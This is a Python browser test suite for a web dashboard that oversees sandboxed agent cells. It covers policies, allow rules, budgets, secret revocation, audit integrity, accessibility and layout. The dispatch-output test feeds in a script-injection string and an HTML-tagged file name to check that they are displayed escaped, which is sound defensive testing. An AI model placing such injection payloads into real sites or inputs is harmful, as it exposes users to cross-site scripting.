    page.see(".note:has-text('Allowed from now on')")
    page.see("form.set .diff .add")
    assert page("value", what=".editor textarea") == text + "# more\n"
    assert page("value", what="[aria-label='Why it is changed']") == "later"
    # Somebody else was faster: what is set takes the place of that, too.
    fake.policy = text + "# another\n"
    fake.policy_hash = "sha256:" + "ba" * 32
    page.click("[role=tab]:text('Budget')")
    page.click("[role=tab]:text('Policy')")
    page.see("form.set :text('has changed since you began')")
    page.until("!document.querySelector('form.set button.good').disabled")
    page.click("form.set button.good")
    assert fake.await_asked("/v1/cells/c0000001/policy")[2]["text"] == text + "# more\n"
    page.see(".note:has-text('The policy is in force')")
    page.gone("[role=tab] :text('not set yet')")
    assert page.run(asks) is False
    # And undone, it is as if nothing had been.
    page.fill(".editor textarea", "version: 1\n")
    page.see("[role=tab] :text('not set yet')")
    page.click("form.set button:text('Undo')")
    page.gone("[role=tab] :text('not set yet')")


def test_a_rule_in_front(page, fake):
    go(page, "#/cell/c0000001/policy", ".quick")
    page.click(".quick button:text('Allow')")
    page.see(".quick :text('say which host')")
    page.fill("[aria-label=Rule]", "pypi.org")
    page.fill("[aria-label=Why]", "a build needs it")
    page.click(".quick button:text('Allow')")
    assert fake.await_asked("/v1/cells/c0000001/allow")[2] == {"rule": "pypi.org", "why": "a build needs it", "now": False}
    # What was done is not offered again.
    page.until("document.querySelector('[aria-label=Rule]').value === ''")
    page.gone(".quick :text('say which host')")
    # A refusal's rule keeps the port.
    page.press("t")
    page.click(".timeline .row:has-text('registry.example:8443')")
    page.until("document.querySelector('.detail [aria-label=Rule]').value === 'GET registry.example:8443/v2/'")


def test_budget_is_raised(page, fake):
    go(page, "#/cell/c0000001/budget", ".budgets li")
    assert "$4.14 of $5.00" in page.text("[data-budget='cell money']") and "reached: ask" in page.text("[data-budget='cell requests']")
    page.fill("[data-budget='cell money'] input", "7.50")
    page.press("Enter")
    assert fake.await_asked("/v1/cells/c0000001/budget")[2] == {"name": "cell", "kind": "money", "limit": "7.50"}
    page.see("[data-budget='cell money'] :text('$4.14 of $7.50')")


def test_states_show_how_far_they_are(page):
    go(page, "#/states", "[data-state=brain] svg")
    assert page.count("[data-state=brain] circle.drift") == 3
    assert "3 files differ now, 5.0K" in page.text("[data-state=brain] .reading")
    # The newest is the farthest from the tagged commit, and so the highest.
    height = "[...document.querySelectorAll('[data-state=brain] circle.drift')].map(c => Number(c.getAttribute('cy')))"
    first, second, last = page.run(height)
    assert first > second > last
    page.click("[data-state=brain] summary")
    assert page.texts("[data-state=brain] tbody td:nth-child(3)") == ["3", "1", "0"]
    assert page.texts("[data-state=brain] tbody td:last-child") == ["", "", "tagged"]
    assert "cloister state tag notes known-good" in page.text("[data-state=notes]") and page.count("[data-state=notes] .plots") == 0


def test_acts_on_states_volumes_and_plans_are_sentences(page):
    go(page, "#/audit", ".acts-list li")
    said = " ".join(page.texts(".acts-list .said"))
    for sentence in ("rolled main of the state brain back to aaaaaaaaaaaa", "gave the volume deps the files of its snapshot first",
                     "rebuilt 3 items of a plan", "kept changes of cell c0000005 for a review of the state brain",
                     "accepted changes of the review r1 of the state brain"):
        assert sentence in said, said


def test_secrets_are_revoked(page, fake):
    go(page, "#/cell/c0000001/secrets", "[data-secret=GITHUB_TOKEN]")
    page.click("[data-secret=GITHUB_TOKEN] button:text('Revoke')")
    assert fake.asked == []
    page.click("[data-secret=GITHUB_TOKEN] button:text('Press again to revoke')")
    fake.await_asked("/v1/cells/c0000001/secrets/GITHUB_TOKEN/revoke")
    page.see("[data-secret=GITHUB_TOKEN] :text('revoked')")
    page.press("5")
    page.see("h1:text('Secrets')")
    page.click("[data-secret=ANTHROPIC_API_KEY] button:text('Revoke everywhere')")
    page.click("[data-secret=ANTHROPIC_API_KEY] button:text('Press again')")
    fake.await_asked("/v1/secrets/ANTHROPIC_API_KEY/revoke")
    page.see(".note:has-text('revoked in 500 cells')")


# ---- registry, dispatches, audit
def test_registry_with_versions_and_their_difference(page):
    page.press("4")
    page.see(".name:has-text('researcher')")
    page.click("[role=tab]:text('Policies')")
    page.see(".name")
    page.click("[role=tab]:text('Agents')")
    page.click(".name:has-text('researcher')")
    page.see(".diff .add:has-text('--careful')")
    assert page.text(".diff .del").split() == ["−", "--fast"]
    assert '"WIKI_TOKEN"' in page.text(".content")
    page.click("tr:has-text('222222222222') button:text('Show')")
    assert page.count("tbody tr") == 3


def test_dispatches_and_output(page):
    page.press("3")
    page.see("a:text('d00000000004')")
    page("choose", what="[aria-label=State]", value="failed")
    page.until("[...document.querySelectorAll('tbody tr')].every(r => r.textContent.includes('failed'))")
    go(page, "#/dispatches/d00000000004", ".files")
    assert "<script>document.title='owned'</script>" in page.text(".output") and "ESC[31mred" in page.text(".output")
    assert page.text(".files a") == "report/<b>week</b>.md"
    assert page.run("document.querySelector('.files a').getAttribute('href')") == "/v1/dispatches/d00000000004/files/report/%3Cb%3Eweek%3C/b%3E.md"


def test_audit_is_a_state(page, fake):
    page.see("#audit:has-text('verified')")
    page.press("6")
    page.see("h2:text('Every record is as it was written.')")
    page.see("li:has-text('uid 1000 added the secret GITHUB_TOKEN')")
    page.click("li:has-text('token ops froze cell c0000005') button:has-text('Proof')")
    page.see(".proof:has-text('Record 3') pre:has-text('\"type\": \"cell.freeze\"')")
    fake.audit = {"state": "broken", "at": at(9), "records": 12, "detail": "c0000007: record 812 was changed"}
    fake.push("audit", fake.audit)
    page.see("#audit[data-kind=bad]:has-text('broken')")
    page.see(".seal:has-text('c0000007: record 812 was changed')")


# ---- the connection
def test_a_service_that_was_gone_is_found_again(page, fake):
    for stream in list(fake.streams):
        stream.put(None)
    fake.cells = {}
    page.see("#live:has-text('live')")
    page.see("text=No cell runs.")


def test_a_session_that_is_over_leads_to_the_login(page):
    page.run("document.cookie; fetch('/logout', {method: 'POST', headers: {'x-cloister-csrf': 'a-csrf-token'}}).then(() => 0)")
    page.press("6")
    page.see("#login-form")


# ---- light and dark, small, and for everybody
PAGES = [("#/cells", ".glance"), ("#/approvals", ".card"), ("#/cell/c0000001", ".timeline .row"), ("#/cell/c0000001/policy", ".rules li"),
         ("#/cell/c0000001/budget", ".budgets li"), ("#/cell/c0000001/secrets", "tbody tr"), ("#/cell/c0000001/about", ".facts dd"), ("#/registry", ".name"),
         ("#/registry/agents/researcher", ".diff"), ("#/dispatches", "tbody tr"), ("#/dispatches/d00000000004", ".files"),
         ("#/secrets", "tbody tr"), ("#/states", ".chart[data-state=brain] svg"), ("#/audit", ".acts-list li"),
         (f"#/cell/{INSIDE}/processes", ".processes .row"), (f"#/cell/{INSIDE}/files", ".files-list .row"), (f"#/cell/{INSIDE}/resources", ".uses svg"),
         ("#/cells/ended", ".cells.ended .row"), ("#/cell/e0000001/changes", ".diff.review .add"), ("#/cell/e0000002", ".timeline .row")]


@pytest.mark.skipif(not AXE.exists(), reason="axe-core is not in build/npm: `make npm` brings it")
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_accessible(chromium, fake, scheme):
    fake.ask(approval(1, needs=2, given=[{"by": "user:carol", "time": at(1)}], frozen=True))
    fake.records = 3000
    fake.change("c0000005", watches=1, last_watch=WATCH)
    chromium.open(fake.url + "/#code=once", time=START + 30, scheme=scheme)
    chromium.see(".row")
    only = [] if scheme == "light" else ["color-contrast"]      # all else is the same
    for hash, wait in PAGES:
        go(chromium, hash, wait)
        assert chromium.axe(*only) == [], hash
    chromium.press("Control+.")
    assert chromium.axe(*only) == []
    assert chromium.problems() == []


def test_360_pixels(chromium, fake):
    fake.ask(approval(1))
    fake.records = 3000
    fake.change("c0000005", watches=1, last_watch=WATCH)
    chromium.open(fake.url + "/#code=once", time=START + 30, width=360, height=740)
    chromium.see(".glance")
    for hash, wait in PAGES:
        go(chromium, hash, wait)
        assert chromium.run("document.documentElement.scrollWidth") <= 360, hash
        box = chromium.run("(b => [b.left, b.right, b.top])(document.getElementById('stop').getBoundingClientRect())")
        assert box[0] >= 0 and box[1] <= 360 and box[2] >= 0, hash
    # All parts of a cell are in view; and the dot of the stream has its word.
    go(chromium, "#/cell/c0000001", "[role=tab]")
    assert chromium.run("(t => t.scrollWidth <= t.clientWidth)(document.querySelector('[role=tablist]'))")
    chromium.see("#live :text('live')")
    go(chromium, "#/dispatches", "tbody tr")
    assert chromium.run("Math.max(...[...document.querySelectorAll('table td')].map(cell => cell.getBoundingClientRect().right))") <= 360
    # What can be done to a secret is in view without scrolling aside.
    for hash in ("#/secrets", "#/cell/c0000001/secrets"):
        go(chromium, hash, "[data-secret] button:has-text('Revoke')")
        assert chromium.run("Math.max(...[...document.querySelectorAll('[data-secret] button')].map(b => b.getBoundingClientRect().right))") <= 360


def test_theme_switch(chromium, fake):
    ground = "getComputedStyle(document.body).backgroundColor"
    chromium.open(fake.url + "/#code=once", scheme="dark")
    chromium.see(".row")
    dark = chromium.run(ground)
    chromium.press("d")
    light = chromium.run(ground)
    assert light != dark
    chromium("reload")
    chromium.see(".row")
    assert chromium.run(ground) == light
    chromium.press("d")
    assert chromium.run(ground) == dark
    chromium("scheme", scheme="light")
    assert chromium.run(ground) == dark
    chromium.press("d")                  # as the system
    assert chromium.run(ground) == light


def test_columns_have_room(chromium, fake):
    for width in (1100, 1600):
        chromium.open(fake.url + "/#code=once", time=START + 30, width=width, height=1400)
        chromium.see(".cells .row >> nth=15")
        for column in ("started", "cpu", "memory", "bytes"):
            cut = f"[...document.querySelectorAll('.cells .row > .c-{column}')].filter(cell => cell.scrollWidth > cell.clientWidth).length"
            assert chromium.run(cut) == 0, (width, column)
        # The figures of all cells begin where the title does, if they are on a line of their own.
        left = "document.querySelector('.glance .figures').getBoundingClientRect().left"
        assert width > 1240 or chromium.run(left) == chromium.run("document.querySelector('.glance').getBoundingClientRect().left")
        assert chromium.run("[...document.querySelectorAll('.figures > span')].find(f => f.innerText.includes('CPU')).innerText.includes('237 cores')")


# ---- pictures for the documentation: `make screenshots`
@pytest.mark.skipif(not SHOTS, reason="pictures are taken by `make screenshots`")
def test_screenshots(chromium, fake):
    fake.ask(approval(1, needs=2, approvers=["alice", "token:ops", "uid:1000"], given=[{"by": "user:carol", "time": at(1)}], frozen=True))
    fake.ask(approval(2))
    for n in range(3, 50):
        fake.ask({**approval(n), "path": "/repos/acme/site/issues", "asked": at(0), "until": at(400)})
    DOCS.mkdir(exist_ok=True)
    for name, hash, wait, how in [
            ("cells", "#/cells", ".row", {}), ("cells-dark", "#/cells", ".row", {"scheme": "dark"}),
            ("cell", "#/cell/c0000001", ".timeline .row", {}), ("approvals", "#/approvals", ".card[data-armed]", {}),
            ("changes", "#/cell/e0000001/changes", ".diff.review .add", {"height": 640}), ("audit", "#/audit", ".acts-list li", {"height": 480}),
            ("policy", "#/cell/c0000001/policy", ".rules li", {"height": 900}), ("processes", f"#/cell/{INSIDE}/processes", ".processes .row:has-text('cc1')", {}),
            ("files", f"#/cell/{INSIDE}/files", ".files-list .row", {"height": 560}), ("resources", f"#/cell/{INSIDE}/resources", ".uses svg", {"height": 640}), ("phone", "#/approvals", ".card[data-armed]", {"width": 360, "height": 740})]:
        chromium.open(fake.url + "/#code=once", time=START + 30, **{"height": 720, "width": 1200, **how})
        chromium.see(".glance")
        go(chromium, hash, wait)
        if name.startswith("cell"):
            chromium.see(".plots svg")
        if name in ("processes", "files"):
            chromium.until(WHOLE)
        if name == "policy":
            text = chromium("value", what=".editor textarea")
            chromium.fill(".editor textarea", text.replace("- allow: github.com", "- alow: github.com"))
            chromium.see(".faults li")
            chromium.run("document.activeElement.blur(); scrollTo(0, document.body.scrollHeight)")
        chromium.see("#audit[data-kind=ok]")
        chromium.shot(DOCS / f"dashboard-{name}.png")
    assert chromium.problems() == []
